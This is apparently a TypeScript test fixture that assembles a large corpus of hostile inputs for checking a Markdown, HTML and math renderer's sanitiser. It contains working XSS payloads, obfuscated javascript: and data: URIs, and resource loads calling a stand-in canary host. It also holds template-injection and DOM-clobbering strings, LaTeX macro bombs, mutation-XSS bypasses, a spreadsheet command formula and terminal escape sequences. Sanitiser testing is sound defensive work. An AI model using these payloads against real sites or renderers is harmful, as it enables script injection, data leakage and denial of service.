/** Where everything would go that must go nowhere. */
export const CANARY = 'https://canary.example';
const own = 'window.pwned=1;alert(1)';

const crossed = (...parts: readonly (readonly string[])[]): string[] =>
  parts.reduce<string[]>((texts, part) => texts.flatMap((text) => part.map((more) => text + more)), ['']);

const handlers: readonly (readonly [element: string, event: string])[] = [
  ['img src=x', 'onerror'],
  ['img srcset=x', 'onerror'],
  ['svg', 'onload'],
  ['svg><animate attributeName=x dur=1s', 'onbegin'],
  ['svg><set attributeName=x', 'onbegin'],
  ['body', 'onpageshow'],
  ['details open', 'ontoggle'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['audio src=x', 'onerror'],
  ['video><source', 'onerror'],
  ['marquee', 'onstart'],
  ['div style=animation:x', 'onanimationstart'],
  ['iframe srcdoc=x', 'onload'],
  ['object data=x', 'onerror'],
  ['a tabindex=0 autofocus', 'onfocus'],
  ['math><mtext><img src=x', 'onerror'],
];

/** How a value ends where it stands, before the element begins. */
const contexts = ['', '">', "'>", '</script>', '</textarea>', '</title></style>', '-->', ']]>', '`;'];

/** An element with a handler, out of each context once, and each element as it is. */
function elements(): string[] {
  return handlers.flatMap(([element, event], index) => [
    `<${element} ${event}="${own}">`,
    `${contexts[index % contexts.length]}<${element.toUpperCase()}\n${event.toUpperCase()}\t=${own}//`,
    `${contexts[(index + 4) % contexts.length]}<${element}/${event}=&#119;indow.pwned&#61;1>`,
  ]);
}

const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java\nscript:',
  ' javascript:',
  '\u0001javascript:',
  'javascript&colon;',
  'javascript&#58;',
  '&#106;avascript:',
  '&#x6A;avascript:',
  'java&Tab;script:',
  'java&NewLine;script:',
  'javascript\u200B:',
  'ｊavascript:',
  'vbscript:',
  'data:text/html,<script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'blob:https://canary.example/',
  'filesystem:https://canary.example/',
  'view-source:javascript:',
  'feed:javascript:',
  'jar:javascript:',
];

/** Addresses in links, pictures, references and autolinks of Markdown. */
function links(): string[] {
  return schemes.flatMap((scheme) => [
    `[click](${scheme}${own.replaceAll(' ', '')})`,
    `[click](<${scheme}alert(1)> "title")`,
    `![picture](${scheme}alert(1))`,
    `[click][ref]\n\n[ref]: ${scheme}alert(1)`,
    `<${scheme}alert(1)>`,
    `<a href="${scheme}alert(1)">click</a>`,
  ]);
}

const fetched = [
  `![p](${CANARY}/md.png)`,
  `![p](//canary.example/md.png)`,
  `[![p](${CANARY}/in.png)](${CANARY})`,
  `<img src="${CANARY}/i.png">`,
  `<img srcset="${CANARY}/s.png 1x">`,
  `<picture><source srcset="${CANARY}/ps.png"><img></picture>`,
  `<video poster="${CANARY}/v.png" src="${CANARY}/v.mp4" autoplay></video>`,
  `<audio src="${CANARY}/a.mp3" autoplay></audio>`,
  `<iframe src="${CANARY}/f"></iframe>`,
  `<frameset><frame src="${CANARY}/fr"></frameset>`,
  `<object data="${CANARY}/o"></object>`,
  `<embed src="${CANARY}/e">`,
  `<script src="${CANARY}/s.js"></script>`,
  `<script type="module">import "${CANARY}/m.js"</script>`,
  `<link rel="stylesheet" href="${CANARY}/c.css">`,
  `<link rel="prefetch" href="${CANARY}/p"><link rel="dns-prefetch" href="${CANARY}">`,
  `<style>@import "${CANARY}/i.css"; *{background:url(${CANARY}/b.png)}</style>`,
  `<style>@font-face{font-family:x;src:url(${CANARY}/f.woff)}*{font-family:x}</style>`,
  `<div style="background:url(${CANARY}/d.png)">x</div>`,
  `<div style="position:fixed;inset:0;z-index:9999;background:red">cover</div>`,
  `<meta http-equiv="refresh" content="0;url=${CANARY}/r">`,
  `<base href="${CANARY}/">`,
  `<form action="${CANARY}/f"><button id="b" autofocus>send</button></form>`,
  `<input type="image" src="${CANARY}/ii.png">`,
  `<svg><image href="${CANARY}/si.png"/></svg>`,
  `<svg><use href="${CANARY}/u.svg#a"/></svg>`,
  `<svg><script href="${CANARY}/ss.js"/></svg>`,
  `<svg><foreignObject><img src="${CANARY}/fo.png"></foreignObject></svg>`,
  `<svg><style>*{fill:url(${CANARY}/st)}</style></svg>`,
  `<svg><filter><feImage href="${CANARY}/fe.png"/></filter></svg>`,
  `<table background="${CANARY}/t.png"><tr><td background="${CANARY}/td.png">x</table>`,
  `<body background="${CANARY}/bg.png">`,
  `<isindex action="${CANARY}">`,
  `<portal src="${CANARY}/po"></portal>`,
  `<template shadowrootmode="open"><img src="${CANARY}/sh.png"></template>`,
  `<noscript><img src="${CANARY}/ns.png"></noscript>`,
  `<?xml-stylesheet href="${CANARY}/x.css"?>`,
  `<!DOCTYPE html [<!ENTITY x SYSTEM "${CANARY}/dtd">]>&x;`,
  `<a ping="${CANARY}/ping" href="#">ping</a>`,
];

const formulas = crossed(
  ['$', '$$'],
  [
    '\\href{javascript:alert(1)}{x}',
    '\\url{javascript:alert(1)}',
    `\\includegraphics{${CANARY}/k.png}`,
    '\\htmlData{onclick=alert(1)}{x}',
    '\\htmlClass{x" onclick="alert(1)}{y}',
    '\\htmlId{root}{y}',
    '\\htmlStyle{position:fixed;inset:0}{y}',
    '\\def\\x{\\x\\x}\\x',
    '\\gdef\\y{\\y\\y\\y}\\y',
    '\\newcommand{\\z}{\\z\\z}\\z',
    '\\text{<img src=x onerror=alert(1)>}',
    '\\text{</annotation></semantics></math><img src=x onerror=alert(1)>}',
    '\\unicode{x3c}script>',
    '\\rule{1000em}{1000em}',
    '\\hspace{99999em}x',
    '\\color{red;background:url(//canary.example)}x',
    '\\verb|<svg onload=alert(1)>|',
    '\\tag{<script>alert(1)</script>}',
    '\\begin{matrix}<a href="javascript:alert(1)">\\end{matrix}',
    '\\require{x}\\href{data:text/html,x}{y}',
    '\\left\\left\\left<img src=x onerror=alert(1)>',
  ],
).map((text) => (text.startsWith('$$') ? `${text}$$` : `${text}$`));

const fences = [
  ...[
    'html',
    'svg',
    'javascript',
    'css',
    'math',
    'xml',
    'html"onmouseover="alert(1)',
    '<img/src=x/onerror=alert(1)>',
  ].map((language) => `\`\`\`${language}\n<img src=x onerror="${own}">\n\`\`\``),
  `\`\`\`mermaid\ngraph TD\nA["<img src=x onerror=alert(1)>"]-->B\nclick A "javascript:alert(1)"\n\`\`\``,
  `\`\`\`mermaid\n%%{init: {"securityLevel":"loose","theme":"base","themeCSS":"*{background:url(${CANARY}/m.css)}"}}%%\ngraph TD;A-->B\n\`\`\``,
  `\`\`\`mermaid\nsequenceDiagram\nA->>B: <svg onload=alert(1)>\nlink A: x @ javascript:alert(1)\n\`\`\``,
  `~~~\n</code></pre><script>${own}</script>\n~~~`,
  `\`<img src=x onerror=alert(1)>\``,
  `    <script>${own}</script>`,
];

const ids = [
  'root',
  'content',
  'body',
  'forms',
  'location',
  'cookie',
  '__proto__',
  'constructor',
  'attributes',
  'getElementById',
];
const clobbering = ids.flatMap((id) => [
  `<a id="${id}" name="${id}" href="${CANARY}/clobber"></a>`,
  `<form id="${id}"><input name="${id}"></form>`,
]);

const templates = [
  '{{7*7}}',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '#{alert(1)}',
  '<%= alert(1) %>',
  '[[${1}]]',
  '{% raw %}<script>alert(1)</script>{% endraw %}',
  '*{alert(1)}',
  '@(alert(1))',
  'ng-app ng-csp {{$eval.constructor("alert(1)")()}}',
  '<x v-html="\'<img src=x onerror=alert(1)>\'">',
  '<x :style="{}" @click=alert(1)>',
  '<script type=text/template>x</script>',
];

const broken = [
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1)//<</script>',
  '<script\u0000>alert(1)</script>'.replace('\u0000', '\u0001'),
  '＜script＞alert(1)＜/script＞',
  '\u2039img src=x onerror=alert(1)\u203A',
  '<\u0130mg src=x onerror=alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;img src=x onerror=alert(1)&amp;gt;',
  '\\u003cimg src=x onerror=alert(1)\\u003e',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<details><summary>x</summary><script>alert(1)</script></details>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '[^1]: <img src=x onerror=alert(1)>',
  '- [ ] <script>alert(1)</script>',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
  '# <svg onload=alert(1)>',
  '> <script>alert(1)</script>',
  '[a](b "onclick=alert(1)")',
  '[a](b){onclick=alert(1)}',
  '![a](b"onerror="alert(1))',
  '[a]: x\n[a]',
  'www.canary.example/"onmouseover="alert(1)',
  'x@y.z"onclick="alert(1)',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?php alert(1) ?>',
  '\u202E<script>alert(1)</script>\u202C',
  '\u2066hidden\u2069',
  '\u{E0061}\u{E0062}tag characters',
  'раураl.example',
  "=cmd|'/c calc'!A0",
  '\u001B[31mred\u001B[0m\u001B]8;;https://canary.example\u0007x',
];

/** Texts that would do harm where text becomes markup, each another. */
export const hostileCorpus: readonly string[] = [
  ...new Set([
    ...elements(),
    ...links(),
    ...fetched,
    ...formulas,
    ...fences,
    ...clobbering,
    ...templates,
    ...broken,
  ]),
];
